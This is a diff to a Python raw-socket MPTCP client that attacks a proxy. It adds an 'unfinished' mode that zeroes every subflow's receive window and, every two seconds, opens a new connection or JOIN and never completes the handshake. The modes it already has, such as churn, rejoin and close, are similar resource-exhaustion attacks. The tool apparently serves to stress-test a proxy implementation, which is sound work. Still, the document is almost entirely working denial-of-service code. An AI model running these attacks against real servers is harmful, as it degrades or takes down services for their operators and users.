@@ -18,6 +18,8 @@ it from each further address, and receives what the proxy sends. It begins the A
                  port
     narrow       its further subflows have a receive window of 32 kB
     close        their receive window is 0
+    unfinished   its window is 0; every two seconds it begins a connection or a JOIN from a new port, in turn, and never
+                 sends the third ACK
     silent       nothing
 
 It sends a request at first, of which the proxy reads nothing, unless the attack is `silent`. IPv4 only. The kernel
@@ -53,6 +55,7 @@ _PRIORITY_SECONDS: Final = 0.002
 _GUESS_SECONDS: Final = 0.005
 _CHURN_SECONDS: Final = 0.1
 _REUSE_SECONDS: Final = 0.2
+_UNFINISHED_SECONDS: Final = 2.0
 _NARROW_WINDOW: Final = 2**15 >> 7
 _MOST_SUBFLOWS: Final = 4  # of the attack `rejoin`; the kernel permits eight besides the first
 _WINDOW_SHIFT: Final = 7
@@ -61,7 +64,7 @@ _BUFFER_BYTES: Final = 2**23
 _SO_RCVBUFFORCE: Final = 33  # include/uapi/asm-generic/socket.h
 _ATTACKS: Final = (
     *("half-close", "fast-close", "rejoin", "crowd", "crowd-late", "alternate", "regular", "guess"),
-    *("reuse", "churn", "narrow", "close", "silent"),
+    *("reuse", "churn", "narrow", "close", "unfinished", "silent"),
 )
 _OWN_MARK: Final = 1  # `attack.prepare` has all resets dropped that have no mark
 _OUTSIDE: Final = 2**30
@@ -227,14 +230,24 @@ class RawClient:
 
     def join(self, address: str, own_port: int | None = None) -> None:
         """Add a subflow."""
-        subflow, address_id = _Subflow(address, *self._proxy, own_port), next(self._ids) % 255 + 1
-        nonce = random.randbytes(4)  # noqa: S311
-        token = token_of(1, self._proxys_key)
-        answer = self._exchange(subflow, bytes((_JOIN, address_id)) + token.to_bytes(4) + nonce)
+        subflow, nonce = _Subflow(address, *self._proxy, own_port), random.randbytes(4)  # noqa: S311
+        answer = self._exchange(subflow, self._join_option(nonce))
         (proxys_nonce,) = (body[10:14] for body in answer.bodies if body[0] >> 4 == _JOIN >> 4)
         proof = hmac.digest(self._key + self._proxys_key, nonce + proxys_nonce, "sha256")[:20]
         subflow.send(Flag.ACK, bytes((_JOIN, 0)) + proof)
         self._subflows.append(subflow)
+
+    def _join_option(self, nonce: bytes) -> bytes:
+        """That of a SYN, with a new address id."""
+        return bytes((_JOIN, next(self._ids) % 255 + 1)) + token_of(1, self._proxys_key).to_bytes(4) + nonce
+
+    def leave_unfinished(self, *, joins: bool) -> None:
+        """Begin a JOIN or a connection from a new port of the first address, and never answer the SYN/ACK."""
+        subflow = _Subflow(self._subflows[0].address, *self._proxy)
+        hello = bytes((_CAPABLE_V1, _HMAC_SHA256))
+        option = self._join_option(random.randbytes(4)) if joins else hello  # noqa: S311
+        subflow.send(Flag.SYN, option, plain=_MSS + _SCALE)
+        subflow.close()
 
     def _exchange(self, subflow: _Subflow, body: bytes) -> _Received:
         """Send a SYN until it is answered."""
@@ -321,9 +334,9 @@ class RawClient:
         """MP_PRIO on the first subflow."""
         self._subflows[0].send(Flag.ACK, bytes((_PRIO | backup,)), behind=behind)
 
-    def narrow(self, window: int) -> None:
-        """From now on, all but the first subflow have this receive window, in units of its scale."""
-        for subflow in self._subflows[1:]:
+    def narrow(self, window: int, *, first: int = 1) -> None:
+        """From now on, all from the `first` on have this receive window, in units of its scale; 0 is the first."""
+        for subflow in self._subflows[first:]:
             subflow.window = window
             subflow.send(Flag.ACK, self._dss())
 
@@ -380,13 +393,18 @@ def main(attack: str, proxy: str, port: int, addresses: list[str]) -> None:
             client.receive_for(_SIGNAL_SECONDS)
     if attack in ("narrow", "close"):
         client.narrow(_NARROW_WINDOW if attack == "narrow" else 0)
+    if attack == "unfinished":
+        client.narrow(0, first=0)
     print("attacking", flush=True)
     for number in itertools.count():
         if attack == "fast-close":
             client.fast_close()
         if attack == "rejoin":
             client.rejoin()
-        if attack in ("alternate", "regular"):
+        if attack == "unfinished":
+            client.leave_unfinished(joins=number % 2 == 1)
+            client.receive_for(_UNFINISHED_SECONDS)
+        elif attack in ("alternate", "regular"):
             client.set_priority(backup=attack == "alternate" and number % 2 == 0)
             client.receive_for(_PRIORITY_SECONDS)
         elif attack == "guess":
